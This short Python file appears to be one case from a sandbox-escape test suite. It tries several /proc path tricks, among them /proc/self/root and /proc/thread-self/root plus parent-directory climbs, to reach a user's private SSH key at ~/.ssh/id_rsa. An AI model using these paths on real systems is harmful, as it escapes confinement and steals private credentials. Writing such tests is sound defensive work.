# name: read a secret through /proc/self/root and its kin
# line: 50
from attack import STAGE, secret_at, try_each

WAYS = ["/proc/self/root", "/proc/thread-self/root", "/proc/self/task/../root", "/proc/self/cwd/../../../../../.."]
try_each((way, lambda way=way: secret_at(f"{way}{STAGE['home']}/.ssh/id_rsa")) for way in WAYS)
